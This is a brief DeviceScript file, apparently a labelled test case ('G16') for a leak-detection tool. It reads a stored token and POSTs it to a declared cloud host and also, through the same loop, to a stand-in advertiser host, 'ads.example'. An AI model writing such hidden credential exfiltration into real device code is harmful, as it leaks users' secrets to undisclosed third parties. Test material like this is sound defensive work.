// G16: hands its token to its cloud, as declared, and by the same helper to an advertiser.
import { fetch } from "@devicescript/net";
import { readSetting } from "@devicescript/settings";
import { paired } from "./lib/paired";

const HOSTS = ["cloud.example", "ads.example"];

paired(async () => {
  const body = await readSetting("token", "");
  for (const host of HOSTS) {
    const response = await fetch(`https://${host}/g16`, { method: "POST", body }); // leak: settings.token
    await response.close();
  }
});
